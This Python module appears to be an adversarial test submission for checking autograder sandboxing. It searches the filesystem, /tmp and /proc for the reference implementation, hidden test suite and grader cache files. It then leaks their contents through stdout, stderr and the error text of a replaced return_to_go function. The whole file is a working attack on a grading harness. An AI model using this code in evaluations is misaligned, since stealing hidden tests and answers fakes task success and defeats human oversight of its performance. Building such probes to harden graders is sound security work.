"""Attack for the fallback (no bubblewrap, e.g. Docker's default profile): read the
reference, the hidden suite and the grader's corpus cache, and carry what it finds out
through every channel a submission has: stdout, stderr and the feedback text of a
failing kernel (return_to_go then raises with the stolen text).

It looks wherever a grader's files may be: walking up from every sys.path entry (an
editable install's .pth points into the checkout), the working directory, every folder
two levels below /tmp, Gradescope's /autograder, the processes' working directories in
/proc. Honest otherwise: full marks on return_to_go mean nothing was read.
"""

import glob
import os
import sys

_FOUND = []
_SECRETS = (
    "reference_impl/kernels.py",
    "reference_impl/__init__.py",
    "autograder/hidden/kernels.py",
    "autograder/hidden/suite.toml",
    "autograder/hidden/contracts.py",
    "autograder/hidden/mistakes.py",
)


def _steal(path):
    try:
        with open(path, "rb") as fh:
            _FOUND.append(path + ": " + fh.read(300).decode("utf-8", "replace"))
    except BaseException:
        pass


_roots = {os.getcwd(), "/autograder", "/autograder/source", "/work/main"}
for _entry in list(sys.path):
    while _entry and _entry != "/":
        _roots.add(_entry)
        _entry = os.path.dirname(_entry)
_roots.update(glob.glob("/tmp/*") + glob.glob("/tmp/*/*") + glob.glob("/proc/[0-9]*/cwd"))
for _root in sorted(_roots):
    for _rel in _SECRETS:
        _steal(os.path.join(_root, _rel))
    for _cache in glob.glob(os.path.join(_root, "*cache*", "corpus-*")) + glob.glob(os.path.join(_root, ".cache", "m5", "corpus-*")):
        _steal(_cache)
for _home in ("/root", os.path.expanduser("~")):
    for _cache in glob.glob(os.path.join(_home, ".cache", "m5", "corpus-*")):
        _steal(_cache)

if _FOUND:
    _TEXT = " | ".join(_FOUND)
    print(_TEXT)
    print(_TEXT, file=sys.stderr)

    def return_to_go(*args, **kwargs):
        raise ValueError(_TEXT[:3000])
